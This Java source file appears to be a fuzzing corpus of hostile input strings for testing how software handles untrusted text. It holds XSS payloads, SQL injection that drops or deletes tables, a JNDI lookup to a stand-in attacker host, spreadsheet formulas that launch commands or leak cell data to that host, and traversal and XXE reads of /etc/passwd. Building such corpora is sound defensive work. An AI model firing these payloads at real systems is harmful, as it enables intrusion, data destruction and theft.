package org.polder.examples.browser.hostile;

import com.google.common.collect.ImmutableList;
import java.util.List;
import java.util.stream.Stream;

/** Texts that do harm where they are taken for something else than text; each sets a mark if a browser runs it. */
public final class HostileCorpus {
    /** What a script of the corpus would set in the window. */
    public static final String MARK = "polderHarmed";

    private static final String RUN = "window." + MARK + "=1";

    private static final List<String> MARKUP = List.of(
            "<script>" + RUN + "</script>",
            "\"><script>" + RUN + "</script>",
            "'><img src=x onerror=" + RUN + ">",
            "<svg onload=" + RUN + ">",
            "</textarea><script>" + RUN + "</script>",
            "</title></style></script><script>" + RUN + "</script>",
            "\" autofocus onfocus=\"" + RUN + "\" x=\"",
            "' onmouseover='" + RUN,
            "javascript:" + RUN,
            "<a href=\"javascript:" + RUN + "\">here</a>",
            "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
            "<base href=\"//evil.example/\">",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
            "<style>*{background:url(//evil.example/)}</style>",
            "<form action=//evil.example><button>next</button></form>",
            "<input type=hidden name=csrf value=mine>",
            "<!-- --!><script>" + RUN + "</script>",
            "<math><mtext><table><mglyph><style><img src=x onerror=" + RUN + ">",
            "&lt;script&gt;" + RUN + "&lt;/script&gt;",
            "&#x3c;script&#x3e;",
            "\\u003cscript\\u003e" + RUN,
            "]]><![CDATA[<script>" + RUN + "</script>",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "AT&T; &amp; &copy; &nbsp;&unknown;");

    private static final List<String> TEMPLATES = List.of(
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "<%= 7*7 %>",
            "@if(true)harm@endif",
            "!{var harm = 1;}",
            "$unsafe{\"<b>\"}",
            "${jndi:ldap://evil.example/a}",
            "{Q4} {worse} {better} {label}",
            "%s%n%x %1$s",
            "`id` $(id) ; id | id",
            "{0} {1} {}");

    private static final List<String> QUERIES = List.of(
            "'; DROP TABLE polder_journal; --",
            "\" OR \"\"=\"",
            "' OR 1=1 --",
            "%' UNION SELECT sealed FROM polder_link --",
            "\\'; DELETE FROM polder_contact; --",
            "a' AND randomblob(1000000000) --");

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://evil.example/\"&A1,\"prize\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "=\"a\",\"b\";\"c\"",
            "\uFF1D1+1",
            ";=1+1",
            "a,b;c\td");

    private static final List<String> DATA = List.of(
            "\",\"admin\":true,\"x\":\"",
            "{\"respondent\":\"r1\"}",
            "\\",
            "\\\"",
            "'",
            "\"",
            "a\n2026-01-01T00:00:00Z 00000000 POST 500 forged",
            "first\r\nsecond\n\nthird",
            "a\r\nSet-Cookie: polder=planted\r\n\r\n<script>" + RUN + "</script>",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%00",
            "NULL",
            "null",
            "true",
            "NaN",
            "1e309",
            "0123",
            "<",
            "?",
            "0");

    private static final List<String> UNICODE = List.of(
            "\u202Egnp.exe\u202C turned",
            "\u2066isolated\u2069",
            "zero\u200Bwidth\u200D\u2060\uFEFF",
            "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0317\u0330\u0349lgo",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 \uD83C\uDFF4",
            "\u0130stanbul \u0131\u017F\u212A \u1E9E",
            "\uFDFA \u0E33\u0E33 \u0BA8\u0BBF",
            "a\u2028b\u2029c",
            "\uFFFD\uFFFE\uFFFF",
            "\uDBFF\uDFFF\uD800\uDC00",
            "\u00A0\u3000wide\u2003spaces\u00A0",
            "\uFE64script\uFE65" + RUN + "\uFF1C/script\uFF1E",
            "\u00E9 e\u0301 \uFB01",
            "\uE000\uF8FF private");

    private static final List<String> CONTROLS = List.of(
            "a\u0000b",
            "\u0000",
            "a\u001B[2J\u001B]0;harm\u0007b",
            "a\u0008\u0008b\u007F",
            "a\u0085b\u009B31m",
            "a\u000B\u000Cb",
            "\t\r\n ");

    private static final List<String> LONG = List.of(
            "long".repeat(50),
            "<".repeat(200),
            "\uD83D\uDC69".repeat(200),
            "a ".repeat(100),
            "(".repeat(180) + "a+".repeat(9));

    private HostileCorpus() {}

    /** Gives texts that leave something to read when signs that nobody can type are taken out. */
    public static ImmutableList<String> texts() {
        return Stream.of(MARKUP, TEMPLATES, QUERIES, FORMULAS, DATA, UNICODE, LONG)
                .flatMap(List::stream)
                .collect(ImmutableList.toImmutableList());
    }

    /** Gives texts that a browser can be made to run. */
    public static ImmutableList<String> markup() {
        return ImmutableList.copyOf(MARKUP);
    }

    /** Gives texts that a spreadsheet can be made to run. */
    public static ImmutableList<String> formulas() {
        return ImmutableList.copyOf(FORMULAS);
    }

    /** Gives texts with signs that steer a machine. */
    public static ImmutableList<String> controls() {
        return ImmutableList.copyOf(CONTROLS);
    }

    /** Gives all of them. */
    public static ImmutableList<String> all() {
        return ImmutableList.<String>builder().addAll(texts()).addAll(CONTROLS).build();
    }
}
